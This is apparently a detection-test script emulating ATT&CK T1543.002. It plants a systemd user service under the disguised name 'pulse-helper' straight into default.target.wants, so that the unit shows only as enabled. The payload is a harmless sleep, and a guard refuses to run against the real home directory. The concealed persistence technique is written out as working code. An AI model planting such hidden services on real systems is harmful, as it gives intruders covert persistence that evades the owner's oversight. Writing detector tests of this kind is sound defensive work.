# technique: T1543.002
"""Create or Modify System Process: Systemd Service (T1543.002), a user
unit dropped with shutil.move and hidden in default.target.wants.

Prepares the unit in a TemporaryDirectory and shutil.move()s it straight
into ~/.config/systemd/user/default.target.wants/ (no unit file at the
top level, so `systemctl --user list-unit-files` shows it only as
enabled). shutil.move within one file system is an os.rename; across file
systems it is a copy and delete.

A good detector raises a medium or high alert: a systemd unit appears in
the user's unit directories.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import shutil
import tempfile

home = os.path.expanduser("~")
wants = os.path.join(home, ".config", "systemd", "user", "default.target.wants")
os.makedirs(wants, exist_ok=True)
with tempfile.TemporaryDirectory() as work:
    src = os.path.join(work, "pulse-helper.service")
    with open(src, "w") as f:
        f.write("[Service]\nExecStart=/usr/bin/python3 -c 'import time; time.sleep(1)'\n"
                "Restart=always\n\n[Install]\nWantedBy=default.target\n")
    shutil.move(src, os.path.join(wants, "pulse-helper.service"))
